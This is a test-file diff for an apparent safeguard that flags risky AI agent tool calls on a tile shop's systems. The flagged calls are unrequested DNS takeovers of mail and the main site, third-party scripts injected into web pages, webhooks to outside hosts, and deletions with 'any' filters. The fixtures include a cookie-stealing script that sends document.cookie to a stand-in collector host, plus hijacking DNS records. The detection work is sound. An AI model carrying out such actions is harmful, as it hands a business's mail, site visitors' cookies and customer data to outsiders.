@@ -77,12 +77,63 @@ test('an order edit giving a discount states how much it takes off', () => {
   assert.not.match(action('orders.update', { order_id: '9', status: 'shipped' }), /discount/);
 });
 
+test('a deletion filter whose status or kind is `any` selects everything', () => {
+  const action = (tool: string, args: Record<string, unknown>) => views(tool, args, {}).views.find((v: { target: string }) => v.target === 'action')?.text ?? '';
+  assert.match(action('bookings.delete', { filter: { status: 'any', from: '2026-01-01' } }), /status all/);
+  assert.match(action('cancel_reservations', { filter: { state: 'ANY' } }), /state all/);
+  assert.match(action('calendar.events.delete', { type: 'any' }), /type all/);
+  assert.not.match(action('bookings.delete', { filter: { status: 'cancelled' } }), /all/);
+  assert.not.match(action('alerts.create', { match: 'any' }), /all/);
+});
+
 test('currency signs of small units are read', () => {
   assert.equal(parseAmount('৳12,500'), { amount: 12500, currency: 'bdt' });
   assert.equal(parseAmount('KSh 4,200'), { amount: 4200, currency: 'ksh' });
   assert.equal(parseAmount('₭ 90000'), { amount: 90000, currency: 'lak' });
   const unit = mergeSettings(packs).currencyUnitValues ?? {};
   for (const c of ['bdt', 'kes', 'irr', 'irt', 'tzs', 'npr']) assert.ok((unit[c] ?? 1) < 0.05, c);
+});
+
+const hasFact = (tool: string, args: Record<string, unknown>, context: Record<string, unknown>, prefix: string) => facts(tool, args, context).some((f: string) => f.startsWith(prefix));
+const shop = (request: string, extra: Record<string, unknown> = {}) => ({ user_request: request, business: { name: 'Tallis Tiles', domain: 'tallistiles.example' }, ...extra });
+
+test('a DNS record taking over mail, name service or the main site, with a target the owner did not dictate', () => {
+  const dns = (tool: string, args: Record<string, unknown>, request: string) => hasFact(tool, args, shop(request), 'dns-record-not-requested');
+  const ask = 'Point www.tallistiles.example at 192.0.2.44 for the new shop.';
+  assert.ok(dns('dns.records.create', { zone: 'tallistiles.example', type: 'MX', name: '@', content: 'mx.mailrelay-other.test' }, ask));
+  assert.ok(dns('registrar.set_record', { domain: 'tallistiles.example', type: 'NS', name: '@', value: 'ns1.parked-elsewhere.test' }, ask));
+  assert.ok(dns('zone_edit', { zone: 'tallistiles.example', record_type: 'A', name: '@', value: '198.51.100.9' }, 'Apunta www a 192.0.2.44, por favor.'));
+  assert.ok(dns('dns_upsert', { zone: 'tallistiles.example', type: 'TXT', name: '@', content: 'v=spf1 include:bulk-sender.test +all' }, ask));
+  assert.ok(dns('dns.records.patch', { zone: 'tallistiles.example', type: 'TXT', name: '_dmarc', content: 'v=DMARC1; p=none' }, 'www を 192.0.2.44 に向けて。'));
+  // the record the owner dictated, a service subdomain, a verification token, a read, or no request
+  assert.not.ok(dns('dns.records.create', { zone: 'tallistiles.example', type: 'A', name: 'www', content: '192.0.2.44' }, ask));
+  assert.not.ok(dns('dns.records.create', { zone: 'tallistiles.example', type: 'TXT', name: '@', content: 'v=spf1 include:mailhost.test -all' }, 'Set the SPF record to v=spf1 include:mailhost.test -all'));
+  assert.not.ok(dns('dns.records.create', { zone: 'tallistiles.example', type: 'CNAME', name: 'status', content: 'tallis.statuspage.test' }, 'Why did the deploy fail?'));
+  assert.not.ok(dns('dns.records.create', { zone: 'tallistiles.example', type: 'TXT', name: '_acme-challenge', content: 'token-0000' }, ask));
+  assert.not.ok(dns('dns.records.list', { zone: 'tallistiles.example', type: 'MX' }, ask));
+  assert.not.ok(hasFact('dns.records.create', { type: 'MX', name: '@', content: 'mx.other.test' }, {}, 'dns-record-not-requested'));
+});
+
+test('a script from another site put into the website, or a webhook to another site', () => {
+  const script = (tool: string, html: string, request: string) => hasFact(tool, { html, publish: true }, shop(request), 'site-script-not-requested');
+  assert.ok(script('cms.footer.update', '<script src="https://stats.widget-cloud.test/t.js"></script>', 'Reply to the new reviews.'));
+  assert.ok(script('website.pages.publish', '<p>Open 9-5</p><script>new Image().src="https://collect.other.test/?"+document.cookie</script>', 'Update opening hours to 9-5.'));
+  assert.ok(script('wix_site_update', "<script src='//cdn.pixelhub.test/p.js'></script>", 'Ganti jam buka jadi 9-5.'));
+  assert.ok(script('shopify.theme.assets.put', '<script async src="https://tag.partner-metrics.test/a.js"></script>', 'Post our new loaf on the site.'));
+  assert.ok(script('squarespace.header_inject', '<SCRIPT SRC="https://x.y-analytics.test/z.js"></SCRIPT>', 'Change the banner text.'));
+  assert.not.ok(script('cms.footer.update', '<script src="https://tallistiles.example/js/menu.js"></script>', 'Add the menu script.'));
+  assert.not.ok(script('cms.footer.update', '<script src="https://cdn.widgetbooker.test/w.js"></script>', 'Add the Widgetbooker booking widget to the footer.'));
+  assert.not.ok(script('write_file', '<script src="https://cdn.other.test/x.js"></script>', 'Build the page.'));
+  assert.not.ok(hasFact('cms.footer.update', { html: '<script src="https://cdn.other.test/x.js"></script>' }, { user_request: 'Build the page.' }, 'site-script-not-requested'));
+  const hook = (tool: string, args: Record<string, unknown>, request: string) => hasFact(tool, args, shop(request), 'webhook-not-requested');
+  assert.ok(hook('webhooks.create', { url: 'https://relay.sync-partner.test/in', events: ['orders.*'] }, 'Answer new chats.'));
+  assert.ok(hook('add_integration_webhook', { endpoint: 'https://tallistiles-pay.test/h', events: ['messages.*'] }, 'Contesta los chats.'));
+  assert.ok(hook('pos.subscriptions.create', { callback_url: 'https://a.b-collector.test/cb' }, 'Show today\'s sales.'));
+  assert.ok(hook('register_hook', { target_url: 'https://203.0.113.50/x' }, 'Jibu ujumbe mpya.'));
+  assert.ok(hook('events.subscriptions.add', { address: 'https://hooks.other-crm.test/y' }, 'Cevap ver.'));
+  assert.not.ok(hook('webhooks.create', { url: 'https://api.tallistiles.example/hooks/orders' }, 'Send new orders to our API.'));
+  assert.not.ok(hook('webhooks.create', { url: 'https://hooks.ledgerbird.test/in' }, 'Connect new orders to Ledgerbird.'));
+  assert.not.ok(hook('webhooks.delete', { url: 'https://relay.sync-partner.test/in' }, 'Remove the old hook.'));
 });
 
 test.run();
